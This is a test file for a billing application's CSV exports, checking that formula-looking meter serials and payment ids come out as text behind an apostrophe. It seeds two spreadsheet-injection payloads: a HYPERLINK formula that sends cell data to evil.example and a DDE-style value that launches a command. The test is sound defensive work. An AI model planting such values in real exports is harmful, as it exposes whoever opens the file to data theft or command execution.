// The defect seen: a meter serial `=HYPERLINK(…)` went unescaped into the readings CSV export.
// Through the real exports on both engines: text a spreadsheet would run comes out behind an
// apostrophe in the readings and card-payments CSV files, the other cells as before.
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, it } from 'node:test';
import { exportPayments, exportReadings } from '../../../shared/export/index.ts';
import { forEachEngine } from '../../support/engines.ts';
import { PERIOD, parseCsv, seedTown } from './export-fixture.ts';

const TZ = 'Europe/Moscow';
const system = { id: null, ip: 'test' };
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")';

forEachEngine('exports neutralise formulas', (ctx) => {
  const database = ctx.databaseForSuite();
  let dir: string;

  before(async () => {
    const { db } = database();
    await seedTown(db);
    await db('meters').where({ serial: 'CW-10000001' }).update({ serial: HYPERLINK });
    await db('payments').where({ provider_payment_id: 'pay-2' }).update({ provider_payment_id: '@SUM(1+1)*cmd|/C calc!A0' });
    dir = await mkdtemp(join(tmpdir(), 'kkp-export-formulas-'));
  });
  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const deps = () => ({ db: database().db, timeZone: TZ, now: Date.now });

  it('the readings CSV carries a formula-looking serial as text, behind an apostrophe', async () => {
    const path = join(dir, 'readings.csv');
    await exportReadings(deps(), { period: PERIOD, out: path, actor: system });
    const rows = parseCsv((await readFile(path, 'utf8')).replace(/^\uFEFF/, ''));
    const serials = rows.slice(1).map((r) => r[3]);
    assert.ok(serials.includes(`'${HYPERLINK}`), JSON.stringify(serials));
    assert.ok(!serials.some((s) => s?.startsWith('=')), 'no cell starts with =');
    assert.ok(serials.includes('EL-10000001'), 'other serials unchanged');
  });

  it('the card payments CSV does the same for a provider\'s payment id', async () => {
    const path = join(dir, 'payments.csv');
    await exportPayments(deps(), { from: '2026-11-01', to: '2026-11-30', out: path, actor: system });
    const rows = parseCsv((await readFile(path, 'utf8')).replace(/^\uFEFF/, ''));
    const ids = rows.slice(1).map((r) => r[6]);
    assert.deepEqual(ids, ['pay-1', "'@SUM(1+1)*cmd|/C calc!A0"]);
  });
});
